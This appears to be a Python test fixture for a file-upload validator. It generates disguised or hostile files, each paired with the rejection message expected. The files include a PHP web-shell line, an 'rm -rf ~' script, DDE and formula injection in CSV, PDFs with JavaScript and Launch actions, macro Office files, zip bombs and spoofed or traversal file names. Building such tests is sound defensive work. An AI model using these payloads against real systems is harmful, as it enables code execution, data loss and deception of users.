"""Files that are not what they seem, each made here: name, content, and words of the sentence that refuses it."""

import zlib
from collections.abc import Iterator
from zipfile import ZIP_BZIP2, ZIP_STORED

from tests.uploaded import (
    EXCEL,
    JPEG,
    PDF,
    PNG,
    WORD,
    archive,
    box,
    heic,
    office,
    old_word,
    open_document,
    packed,
    pdf,
    picture,
)

PROGRAM = b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode."
LINUX, JAVA = b"\x7fELF\x02\x01\x01" + bytes(40), b"\xca\xfe\xba\xbe\0\0\0\x34"
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
BOTH = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"
RELATION = (
    '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)
DAMAGED, LOCKED, SWOLLEN, WIDE = "is damaged or is not", "is locked", "unpacks to more", "50 million pixels"
MACRO, INSIDE, CALLS = "a macro or a program", "another file inside", "from another place"
ODD, TWO, SCRIPT, KINDS = "characters in its name", "two endings", "not plain text", "must be a PDF, a Word"


def large_png(width: int, height: int) -> bytes:
    """Its head alone says how large it is: a picture of so many pixels need not be made to be refused."""
    head = PNG[12:16] + width.to_bytes(4, "big") + height.to_bytes(4, "big") + PNG[24:29]
    return PNG[:12] + head + zlib.crc32(head).to_bytes(4, "big") + PNG[33:]


def locked(data: bytes) -> bytes:
    """With the mark of a password on each part, as both places of an archive have it."""
    made = bytearray(data)
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + flag] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def lying(data: bytes) -> bytes:
    """It says of its last part that it is shorter than it is."""
    made = bytearray(data)
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (3).to_bytes(4, "little")
    return bytes(made)


def pages() -> Iterator[tuple[str, bytes, str]]:
    """What a browser would run."""
    yield "hole.jpg", PAGE, DAMAGED
    yield "hole.png", PAGE, DAMAGED
    yield "hole.jpg", SVG, DAMAGED
    yield "hole.svg", SVG, KINDS
    yield "page.html", PAGE, KINDS
    yield "plan.pdf", PAGE, DAMAGED
    yield "note.txt", PAGE, SCRIPT
    yield "note.txt", SVG, SCRIPT
    yield "note.txt", b"Hello <script src=//x></script>", SCRIPT
    yield "list.csv", b"\xef\xbb\xbf\n <?php system($_GET['c']); ?>", SCRIPT
    yield "note.txt", "<html>".encode("utf-16"), SCRIPT
    yield "hole.gif", BOTH, KINDS
    yield "hole.jpg", BOTH, DAMAGED
    yield "hole.webp", BOTH, DAMAGED


def programs() -> Iterator[tuple[str, bytes, str]]:
    yield "plan.pdf", PROGRAM, DAMAGED
    yield "plan.exe", PROGRAM, KINDS
    yield "plan.doc", PROGRAM, DAMAGED
    yield "plan.docx", LINUX, DAMAGED
    yield "plan.txt", PROGRAM, DAMAGED
    yield "plan.csv", JAVA, DAMAGED
    yield "start.txt", b"#!/bin/sh\nrm -rf ~", SCRIPT
    yield "shortcut.txt", b"[InternetShortcut]\nURL=http://x", SCRIPT
    yield "list.csv", b'name,sum\n"=HYPERLINK(""http://x"")",1', "has formulas"
    yield "list.csv", b"name\n=cmd|' /C calc'!A0", "has formulas"
    yield "list.csv", b"name\n@SUM(1+1)*cmd|' /C calc'!A0", "has formulas"
    yield "plan.zip", archive({"a.txt": "a"}), KINDS
    yield "letter.rtf", b"{\\rtf1\\object}", KINDS
    yield "letter.docm", office(), KINDS


def papers() -> Iterator[tuple[str, bytes, str]]:
    """PDF that does more than be read."""
    yield "plan.pdf", pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"), MACRO
    yield "plan.pdf", pdf(b"1 0 obj << /OpenAction << /S /Launch /F (calc.exe) >> >> endobj"), MACRO
    yield "plan.pdf", pdf(b"1 0 obj << /S /J#61vaScript /JS (x) >> endobj"), MACRO
    yield "plan.pdf", pdf(packed(b"1 0 << /S /JavaScript /JS (x) >>")), MACRO
    yield "plan.pdf", pdf(packed(b"1 0 << /S /L#61unch >>")), MACRO
    yield "plan.pdf", pdf(packed(b"1 0 << /S /GoTo >>").replace(b"/ObjStm", b"/Obj#53tm")), MACRO
    yield "plan.pdf", pdf(packed(b"1 0 << >>", b"/DecodeParms << /Predictor 12 >> ")), DAMAGED
    yield "plan.pdf", pdf(packed(bytes(21_000_000))), SWOLLEN
    yield "plan.pdf", pdf(packed(b"1 0 << >>"), b"trailer << /Encrypt 9 0 R >>"), LOCKED
    yield "plan.pdf", pdf(b"1 0 obj << /Type /EmbeddedFile >> stream\nMZ\nendstream endobj"), INSIDE
    yield "plan.pdf", pdf(b"1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj"), MACRO
    yield "plan.pdf", pdf(b"1 0 obj << /S /GoToR /F (\\\\\\\\x\\\\y) >> endobj"), CALLS
    yield "plan.pdf", PDF + archive({"run.exe": PROGRAM}), DAMAGED
    yield "plan.pdf", archive({"run.exe": PROGRAM}) + PDF, DAMAGED
    yield "plan.pdf", PDF[:-5], DAMAGED
    yield "plan.pdf", b"\n" + PDF, DAMAGED


def archives() -> Iterator[tuple[str, bytes, str]]:
    """Documents that are more, or much more, than a document."""
    yield "letter.docx", archive({"a.txt": "a"}), DAMAGED
    yield "letter.docx", office(EXCEL), DAMAGED
    yield "letter.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml"), MACRO
    yield "letter.docx", office(parts={"word/vbaProject.bin": b"x"}), MACRO
    yield "list.xlsx", office(EXCEL, {"xl/macrosheets/sheet1.xml": "<x/>"}), MACRO
    yield "letter.docx", office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), INSIDE
    yield "letter.docx", office(parts={"word/media/run.exe": b"x"}), INSIDE
    yield "letter.docx", office(parts={"word/media/image1.png": PROGRAM}), INSIDE
    yield "letter.docx", office(parts={"word/embeddings/a.docx": office()}), INSIDE
    yield "letter.docx", office(parts={"word/embeddings/a.xlsx": office(EXCEL, {"xl/run.exe": b"x"})}), INSIDE
    yield (
        "letter.docx",
        office(parts={"word/_rels/settings.xml.rels": RELATION.format(target="https://x/t.dotm")}),
        CALLS,
    )
    yield "letter.docx", office(parts={"word/_rels/settings.xml.rels": RELATION.format(target="\\\\x\\t.dotm")}), CALLS
    yield "letter.docx", office(parts={"word/other.xml": "<w:instrText>DDEAUTO c:\\x</w:instrText>"}), CALLS
    yield "letter.docx", office(parts={"word/other.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), DAMAGED
    yield "letter.docx", office(parts={"word/media/large.bmp": bytes(13_000_000)}), SWOLLEN
    yield "letter.docx", office(parts={f"word/{number}.xml": "" for number in range(3_001)}), SWOLLEN
    yield "letter.docx", lying(office(parts={"word/media/large.bmp": bytes(5_000)})), DAMAGED
    yield "letter.docx", locked(office()), LOCKED
    yield "letter.docx", old_word("EncryptedPackage"), LOCKED
    yield "letter.docx", PROGRAM + office(), DAMAGED
    yield "letter.docx", office() + PAGE, DAMAGED
    yield "letter.docx", office(parts={"../../up.xml": "x"}), DAMAGED
    yield "letter.docx", archive({"[Content_Types].xml": WORD}, ZIP_BZIP2), DAMAGED
    yield "letter.odt", archive({"mimetype": "application/zip"}, ZIP_STORED), DAMAGED
    yield "letter.odt", open_document("text", {"Basic/Standard/Module1.xml": "Sub x"}), MACRO
    yield "letter.doc", old_word("_VBA_PROJECT"), MACRO
    yield "letter.doc", old_word("\x01Ole10Native"), INSIDE
    yield "letter.doc", office(), DAMAGED


def pictures() -> Iterator[tuple[str, bytes, str]]:
    yield "wide.png", large_png(1, 60_000), WIDE
    yield "wide.png", large_png(60_000, 1), WIDE
    yield "wide.png", large_png(15_000, 15_000), WIDE
    yield "wide.png", large_png(2_000_000_000, 2_000_000_000), WIDE
    yield "wide.heic", heic((60_000, 1)), WIDE
    yield "hole.jpg", JPEG[: len(JPEG) // 2], DAMAGED
    yield "hole.png", PNG[:45], DAMAGED
    yield "hole.png", JPEG, DAMAGED
    yield "hole.jpg", picture("TIFF"), DAMAGED
    yield "hole.heic", JPEG, DAMAGED
    yield "hole.heic", heic(brand=b"isom"), DAMAGED
    yield "hole.heic", box(b"ftyp", b"heic") + b"\xff\xff\xff\xffmeta", DAMAGED
    yield "hole.jpg", b"", "is empty"


def names() -> Iterator[tuple[str, bytes, str]]:
    """The content is sound; the name is not."""
    yield "annexe\u202efdp.exe", PDF, ODD
    yield "annexe\u202eexe.pdf", PDF, ODD
    yield "annex\u2066e.pdf", PDF, ODD
    yield "plan.exe\0.pdf", PDF, ODD
    yield "plan.pdf\r\nSet-Cookie: a=b.pdf", PDF, ODD
    yield "plan\x1b[31m.pdf", PDF, ODD
    yield "../../etc/plan.pdf", PDF, ODD
    yield "..\\plan.pdf", PDF, ODD
    yield "invoice.exe.pdf", PDF, TWO
    yield "invoice.pdf .scr.pdf", PDF, TWO
    yield "invoice.pdf.exe", PDF, KINDS
    yield "invoice.pdf.", PDF, KINDS
    yield "invoice.pdf\u2028.pdf", PDF, ODD
    yield f"{'a' * 5_000}.pdf", PDF, "a shorter name"
    yield ".pdf", PDF, KINDS
    yield "\ud800.pdf", PDF, ODD


def every() -> list[tuple[str, bytes, str]]:
    return [*pages(), *programs(), *papers(), *archives(), *pictures(), *names()]
